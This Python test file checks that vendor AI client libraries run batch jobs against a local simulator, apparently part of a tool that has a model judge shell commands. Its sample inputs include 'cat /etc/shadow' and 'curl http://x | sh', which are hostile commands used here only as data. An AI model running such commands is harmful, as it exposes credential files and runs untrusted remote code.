"""The vendors' own clients create, poll, list, read and cancel batches on the simulator."""

import io
import json
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any, TypeVar

import pytest
from anthropic import Anthropic
from google import genai
from google.genai import types
from openai import OpenAI

from aegish_dist.simulator.config import BatchPlan, SimulatorConfig
from aegish_dist.simulator.personas import NO_LATENCY, parse_latency
from aegish_dist.simulator.server import simulator_thread

DEADLINE_S = 20.0
COMMANDS = ("cat /etc/shadow", "ls", "curl http://x | sh")
ENDPOINT: Any = "/v1/chat/completions"
T = TypeVar("T")


def lasting(seconds: float) -> BatchPlan:
    return BatchPlan(parse_latency(f"constant:{seconds}"))


def until(ask: Callable[[], T], satisfied: Callable[[T], bool]) -> T:
    deadline, pause = time.monotonic() + DEADLINE_S, threading.Event()
    while not satisfied(answer := ask()):
        assert time.monotonic() < deadline, answer
        pause.wait(0.01)
    return answer


@pytest.fixture(scope="module")
def url() -> Iterator[str]:
    """Return the root of a simulator whose batches take a moment."""
    config = SimulatorConfig(latency=NO_LATENCY, require_key=True, batches=lasting(0.05))
    with simulator_thread(config) as simulator:
        yield simulator.url


def openai_client(url: str) -> OpenAI:
    return OpenAI(base_url=f"{url}/v1", api_key="k", max_retries=0)


def openai_body(command: str, model: str = "careful") -> dict[str, Any]:
    user = {"role": "user", "content": f"<command>{command}</command>"}
    return {"model": model, "messages": [{"role": "system", "content": "judge"}, user]}


def openai_lines(*commands: str) -> bytes:
    """Return an input file that asks about commands."""
    entries = [
        {"custom_id": f"t-{place}", "method": "POST", "url": ENDPOINT, "body": openai_body(command)}
        for place, command in enumerate(commands)
    ]
    return "\n".join(map(json.dumps, entries)).encode()


def openai_batch(client: OpenAI, content: bytes) -> Any:
    file = client.files.create(file=("requests.jsonl", content), purpose="batch")
    return client.batches.create(
        input_file_id=file.id,
        endpoint=ENDPOINT,
        completion_window="24h",
        metadata={"token": "t"},
    )


def test_openai_answers_a_batch_as_it_answers_live(url: str) -> None:
    """Each result has the name of its request and the answer of a live call."""
    client = openai_client(url)
    created = openai_batch(client, openai_lines(*COMMANDS))
    assert (created.status, created.metadata) == ("validating", {"token": "t"})
    batch = until(lambda: client.batches.retrieve(created.id), lambda b: b.status == "completed")
    counts = batch.request_counts
    assert counts is not None
    assert (counts.total, counts.completed, counts.failed) == (3, 3, 0)
    assert batch.output_file_id is not None
    assert batch.error_file_id is None
    results = [json.loads(line) for line in client.files.content(batch.output_file_id).iter_lines()]
    found = {each["custom_id"]: each["response"]["body"] for each in results}
    assert sorted(found) == ["t-0", "t-1", "t-2"]
    for place, command in enumerate(COMMANDS):
        live = client.chat.completions.create(**openai_body(command))
        choice = found[f"t-{place}"]["choices"][0]
        assert choice["message"]["content"] == live.choices[0].message.content
        assert found[f"t-{place}"]["usage"] == live.usage.model_dump(exclude_none=True)


def anthropic_client(url: str) -> Anthropic:
    key = {"x-api-key": "k"}
    return Anthropic(base_url=url, api_key="k", max_retries=0, default_headers=key)


def anthropic_requests(*commands: str) -> list[Any]:
    return [
        {
            "custom_id": f"t-{place}",
            "params": {
                "model": "careful",
                "max_tokens": 100,
                "messages": [{"role": "user", "content": f"<command>{command}</command>"}],
            },
        }
        for place, command in enumerate(commands)
    ]


def test_anthropic_answers_a_batch_as_it_answers_live(url: str) -> None:
    """Each result has the name of its request and the answer of a live call."""
    client = anthropic_client(url)
    requests = anthropic_requests(*COMMANDS)
    created = client.messages.batches.create(requests=requests)
    assert (created.processing_status, created.request_counts.processing) == ("in_progress", 3)
    assert created.results_url is None
    batch = until(
        lambda: client.messages.batches.retrieve(created.id),
        lambda batch: batch.processing_status == "ended",
    )
    assert (batch.request_counts.succeeded, batch.request_counts.processing) == (3, 0)
    found = {each.custom_id: each.result for each in client.messages.batches.results(batch.id)}
    for request in requests:
        result = found.pop(request["custom_id"])
        assert result.type == "succeeded"
        live = client.messages.create(**request["params"])
        assert result.message.content == live.content
        assert result.message.usage == live.usage
    assert not found
    assert client.messages.batches.delete(batch.id).type == "message_batch_deleted"
    assert batch.id not in {each.id for each in client.messages.batches.list()}


def google_client(url: str) -> genai.Client:
    return genai.Client(
        api_key="k", http_options=types.HttpOptions(base_url=url, api_version="v1beta")
    )


def google_request(command: str) -> dict[str, Any]:
    return {"contents": [{"role": "user", "parts": [{"text": f"<command>{command}</command>"}]}]}


def google_ended(client: genai.Client, name: str | None) -> types.BatchJob:
    return until(lambda: client.batches.get(name=str(name)), lambda job: bool(job.done))


def test_google_answers_an_uploaded_batch_as_it_answers_live(url: str) -> None:
    """Requests and results are files; each result has the key of its request."""
    client = google_client(url)
    lines = [
        json.dumps({"key": f"t-{place}", "request": google_request(command)})
        for place, command in enumerate(COMMANDS)
    ]
    content = io.BytesIO("\n".join(lines).encode())
    file = client.files.upload(file=content, config={"mime_type": "application/jsonl"})
    assert (file.size_bytes, file.download_uri) == (len(content.getvalue()), None)
    config = types.CreateBatchJobConfig(display_name="t")
    created = client.batches.create(model="careful", src=str(file.name), config=config)
    assert created.display_name == "t"
    job = google_ended(client, created.name)
    assert job.state is types.JobState.JOB_STATE_SUCCEEDED
    assert job.dest is not None
    results = client.files.download(file=str(job.dest.file_name)).decode().splitlines()
    found = {entry["key"]: entry["response"] for entry in map(json.loads, results)}
    for place, command in enumerate(COMMANDS):
        live = client.models.generate_content(model="careful", contents=google_content(command))
        assert found[f"t-{place}"]["candidates"][0]["content"]["parts"][0]["text"] == live.text


def google_content(command: str) -> str:
    return f"<command>{command}</command>"


def test_google_answers_inline_requests_in_their_order(url: str) -> None:
    client = google_client(url)
    source: Any = [
        {**google_request(command), "metadata": {"key": f"t-{place}"}}
        for place, command in enumerate(COMMANDS)
    ]
    created = client.batches.create(model="careful", src=source)
    job = google_ended(client, created.name)
    assert job.dest is not None
    responses = job.dest.inlined_responses or []
    assert [each.metadata for each in responses] == [{"key": f"t-{place}"} for place in range(3)]
    live = client.models.generate_content(model="careful", contents=google_content(COMMANDS[0]))
    assert responses[0].response is not None
    assert responses[0].response.text == live.text
    client.batches.delete(name=str(created.name))
    assert created.name not in {each.name for each in client.batches.list()}
